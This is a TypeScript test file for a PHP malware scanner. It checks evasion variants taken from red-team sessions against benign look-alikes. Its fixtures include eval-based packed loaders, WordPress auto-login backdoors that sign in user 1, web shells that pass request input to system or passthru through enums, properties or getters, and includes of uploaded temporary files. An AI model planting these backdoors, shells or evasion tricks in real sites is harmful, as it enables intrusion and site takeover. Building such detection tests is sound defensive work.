import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 32: the forms of session 31's open evasions (red team S31S, S31R; bench/redteam/README-s31.md), written
// again by us, with look-alikes that must stay not malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

/** A packed blob of our own: base64 of harmless text, its characters swapped by a table, in pieces of 76. */
const text = Buffer.from('echo "hello from a test payload";\n'.repeat(60)).toString('base64');
const swap: Record<string, string> = { A: 'Q', Q: 'A', e: 'z', z: 'e', '0': '7', '7': '0' };
const parts = [...text].map((c) => swap[c] ?? c).join('').match(/.{1,76}/g)!;
const pieces = parts.map((p) => `"${p}"`).join('.\n');
const table = Object.entries(swap).map(([k, v]) => `"${v}"=>"${k}"`).join(', ');
const dec = 'function u($s, $t) { return base64_decode(strtr($s, $t)); }';

// S31S-35 to -42: the packed loader's blob and decoder written other ways
const LOADERS: [string, string][] = [
  ['the table given first, the blob second', `<?php\nfunction u($t, $s) { return base64_decode(strtr($s, $t)); }\n$tbl = array(${table});\n$b = ${pieces};\neval(u($tbl, $b));\n`],
  ['the blob in a nowdoc', `<?php\n${dec}\n$b = <<<'EOT'\n${parts.join('\n')}\nEOT;\neval(u($b, array(${table})));\n`],
  ['the blob in a heredoc', `<?php\n${dec}\n$b = <<<EOT\n${parts.join('\n')}\nEOT;\neval(u($b, array(${table})));\n`],
  ['the blob appended piece by piece with .=', `<?php\n${dec}\n$b = '';\n${parts.map((p) => `$b .= "${p}";`).join('\n')}\neval(u($b, array(${table})));\n`],
  ['the decoder a static method', `<?php\nclass L { public static function u($s, $t) { return base64_decode(strtr($s, $t)); } }\n$b = ${pieces};\neval(L::u($b, array(${table})));\n`],
  ['the decoder a method called on $this', `<?php\nclass L { function u($s, $t) { return base64_decode(strtr($s, $t)); } function run() { $b = ${pieces};\neval($this->u($b, array(${table}))); } }\n(new L)->run();\n`],
  ['the decoder a closure', `<?php\n$b = ${pieces};\n$u = function ($s, $t) { return base64_decode(strtr($s, $t)); };\neval($u($b, array(${table})));\n`],
  ['the decoder an arrow function', `<?php\n$b = ${pieces};\n$u = fn($s, $t) => base64_decode(strtr($s, $t));\neval($u($b, array(${table})));\n`],
  ['the blob a constant', `<?php\n${dec}\nconst B = ${pieces};\neval(u(B, array(${table})));\n`],
  ['the blob a defined constant', `<?php\n${dec}\ndefine('B', ${pieces});\neval(u(B, array(${table})));\n`],
  ['the blob an array of pieces imploded', `<?php\n${dec}\n$p = array(${parts.map((p) => `"${p}"`).join(',\n')});\neval(u(implode('', $p), array(${table})));\n`],
  ['the blob in the call itself', `<?php\n${dec}\neval(u(${pieces}, array(${table})));\n`],
  ['the decoding call past 4,000 characters of the function', `<?php\nfunction u($s, $t) {\n${'    // keep the table in step with the packer\n'.repeat(120)}    return base64_decode(strtr($s, $t)); }\n$b = ${pieces};\neval(u($b, array(${table})));\n`],
  ['the decoder\'s name joined from pieces of two to four letters', `<?php\nfunction u($s, $t) { $f = "ba"."se"."64"."_de"."code"; return $f(strtr($s, $t)); }\n$b = ${pieces};\neval(u($b, array(${table})));\n`],
];

const LOADER_LOOKALIKES: [string, string][] = [
  ['a template engine: a favicon blob in one function, eval of a compiled template in another', `<?php\nfunction c($s) { return '?>' . strtr($s, array('{{' => '<?php echo ')); }\nfunction fav() { $src = ${pieces}; echo base64_decode($src); }\nfunction r($n) { $src = file_get_contents($n); eval(c($src)); }\n`],
  ['the same with the template variable never given in the eval\'s function', `<?php\nfunction c($s) { return '?>' . strtr($s, array('{{' => '<?php echo ')); }\nfunction fav() { $src = ${pieces}; echo base64_decode($src); }\nfunction r($n) { eval(c($src)); }\n`],
  ['a blob variable given a file\'s content last, before the eval', `<?php\n${dec}\n$b = ${pieces};\nheader('Content-Type: image/png'); echo base64_decode($b);\n$b = file_get_contents('cache/view.php');\neval(u($b, array(${table})));\n`],
  ['a heredoc of a template, not base64, evaluated through a method', `<?php\nclass V { function u($s, $t) { return strtr(base64_decode($s), $t); } function run() { $b = <<<EOT\n${'<p>{{ title }} &mdash; {{ body }}</p>\n'.repeat(60)}EOT;\neval($this->u($b, array())); } }\n`],
  ['a short nowdoc of base64', `<?php\n${dec}\n$b = <<<'EOT'\n${parts.slice(0, 8).join('\n')}\nEOT;\neval(u($b, array(${table})));\n`],
];

describe('scan: session 32, the packed loader written other ways (S31S-35 to -42)', () => {
  for (const [name, src] of LOADERS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.equal(r.findings.some((f) => f.rule === 'mamori:own-decoder-eval'), true);
    });
  }
  for (const [name, src] of LOADER_LOOKALIKES) {
    it(`not this finding: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.equal(r.findings.some((f) => f.rule === 'mamori:own-decoder-eval'), false, JSON.stringify(r.findings));
    });
  }
  it('a file of 30,000 assignments appended to one name, then an eval of its decoder, is read in bounded time, and caught', () => {
    const src = `<?php\n${dec}\n${'$b .= "QUJkZ0";\n'.repeat(30000)}eval(u($b, array()));\n`;
    const r = scan(src, '/www/x.php');
    assert.equal(r.findings.some((f) => f.rule === 'mamori:own-decoder-eval'), true);
  });
  it('ran every case', () => {
    assert.equal(LOADERS.length, 14);
    assert.equal(LOADER_LOOKALIKES.length, 5);
  });
});

// S31S: the standalone WordPress login's loader file named through a variable or pieces
const NEGATED: [string, string][] = [
  ['a WordPress auto-login whose loader path is held in a variable', `<?php
$p = dirname(__FILE__) . '/../../wp-load.php';
require $p;
$u = get_userdata(1);
wp_set_current_user($u->ID);
wp_set_auth_cookie($u->ID);
wp_safe_redirect(admin_url());
exit;
`],
  ['a WordPress auto-login whose loader path is joined from pieces', `<?php
$w = array('..', '..', 'wp-load.php');
require_once implode('/', $w);
$u = new WP_User(1);
wp_set_auth_cookie($u->ID, true);
header('Location: /wp-admin/');
`],
];
const NEGATED_LOOKALIKES: [string, string][] = [
  ['a WordPress login helper that checks the capability in code', `<?php
require('../../wp-blog-header.php');
if (!current_user_can('manage_options')) { wp_die('no'); }
$u = get_userdata(1);
wp_set_current_user($u->ID);
wp_set_auth_cookie($u->ID);
wp_safe_redirect(admin_url());
`],
  ['a WordPress tool quoting wp-load.php in a message, signing in the account it is given by a verified token', `<?php
// usage: copy next to wp-load.php
require __DIR__ . '/wp-load.php';
$id = (int) get_transient('magic_' . md5($_GET['t'] ?? ''));
if ($id) { wp_set_auth_cookie($id); }
`],
  ['a site reset plugin backing up wp-config.php, then signing the first account back in (S32R-22)', `<?php
/* Plugin Name: Site Reset */
add_action('admin_post_site_reset', function () {
  $cfg = ABSPATH . 'wp-config.php';
  $backup = file_get_contents($cfg);
  require_once $cfg;
  do_action('site_reset_tables');
  file_put_contents($cfg, $backup);
  $u = get_userdata(1);
  wp_set_auth_cookie($u->ID);
  wp_safe_redirect(admin_url());
});
`],
];

describe('scan: session 32, the WordPress loader named another way', () => {
  for (const [name, src] of NEGATED) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/www/wp-content/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, src] of NEGATED_LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, '/www/wp-content/x.php');
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(NEGATED.length, 2);
    assert.equal(NEGATED_LOOKALIKES.length, 3);
  });
});

// S31R-22, -23, -27: a command function's name held by an enum's case, an array property's element, a getter
const HELD: [string, string][] = [
  ['an enum case holding system, called through ->value', `<?php
enum Fn: string { case Run = 'system'; }
$f = Fn::Run->value;
$f($_GET['c']);
`],
  ['an array property holding system, its element copied and called', `<?php
class T {
  private $fns = ['run' => 'system', 'list' => 'scandir'];
  function go($c) { $f = $this->fns['run']; $f($c); }
}
(new T)->go($_POST['c']);
`],
  ['a getter returning the property that holds system', `<?php
class T {
  private $fn = 'system';
  function fn() { return $this->fn; }
  function go($c) { $f = $this->fn(); $f($c); }
}
(new T)->go($_REQUEST['c']);
`],
  ['an object\'s array property element given to call_user_func', `<?php
class T {
  public $fns = array('run' => 'passthru');
}
$t = new T;
call_user_func($t->fns['run'], $_GET['c']);
`],
];
const HELD_LOOKALIKES: [string, string][] = [
  ['a hardening check listing the functions it wants disabled', `<?php
class Audit {
  private $dangerous = ['system', 'exec', 'passthru', 'shell_exec'];
  function report() {
    $out = [];
    foreach ($this->dangerous as $f) { $out[$f] = function_exists($f) ? 'enabled' : 'disabled'; }
    return $out;
  }
}
if (isset($_GET['audit'])) { header('Content-Type: application/json'); echo json_encode((new Audit)->report()); }
`],
  ['an enum of run modes chosen from the request', `<?php
enum Mode: string { case System = 'system'; case User = 'user'; }
$m = Mode::tryFrom($_GET['m'] ?? '') ?? Mode::User;
echo $m === Mode::System ? 'system-wide settings' : 'your settings';
`],
  ['a dispatcher whose array property maps actions to its own methods', `<?php
class Ctl {
  private $routes = ['list' => 'listItems', 'show' => 'showItem'];
  function listItems() { return 'items'; }
  function showItem() { return 'item'; }
  function run($a) { $m = $this->routes[$a] ?? 'listItems'; return $this->$m(); }
}
echo (new Ctl)->run($_GET['a'] ?? 'list');
`],
];

describe('scan: session 32, a command function\'s name held by an enum case, an array property, a getter (S31R-22, -23, -27)', () => {
  for (const [name, src] of HELD) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, src] of HELD_LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(HELD.length, 4);
    assert.equal(HELD_LOOKALIKES.length, 3);
  });
});

// S31R-30, -32, -37: an upload's temporary file included through array_column, extract, an object cast
const UPLOAD_INCLUDES: [string, string][] = [
  ['every upload\'s temporary name from array_column, each included by an arrow function', `<?php
array_map(fn($f) => include $f, array_column($_FILES, 'tmp_name'));
`],
  ['the same in a loop', `<?php
foreach (array_column($_FILES, 'tmp_name') as $f) { include $f; }
`],
  ['the upload\'s fields made variables by extract, then $tmp_name included', `<?php
foreach ($_FILES as $f) { extract($f); include $tmp_name; }
`],
  ['the upload cast to an object, its tmp_name included', `<?php
$o = (object) $_FILES['x'];
include $o->tmp_name;
`],
];
const UPLOAD_LOOKALIKES: [string, string][] = [
  ['a multi-upload form checking sizes with array_column, then requiring its config and view', `<?php
require $configFile;
$sizes = array_column($_FILES, 'size');
$tmps = array_column($_FILES, 'tmp_name');
foreach ($tmps as $i => $t) { if (is_uploaded_file($t)) move_uploaded_file($t, UPLOADS . '/' . bin2hex(random_bytes(8))); }
include $viewFile;
`],
  ['an upload handler moving the file, then including its template', `<?php
$f = $_FILES['doc'];
if ($f['error'] === UPLOAD_ERR_OK && $f['type'] === 'application/pdf') { move_uploaded_file($f['tmp_name'], __DIR__ . '/files/' . bin2hex(random_bytes(8)) . '.pdf'); }
$template = __DIR__ . '/views/uploaded.php';
include $template;
`],
];

describe('scan: session 32, an upload\'s temporary file included another way (S31R-30, -32, -37)', () => {
  for (const [name, src] of UPLOAD_INCLUDES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, src] of UPLOAD_LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(UPLOAD_INCLUDES.length, 4);
    assert.equal(UPLOAD_LOOKALIKES.length, 2);
  });
});
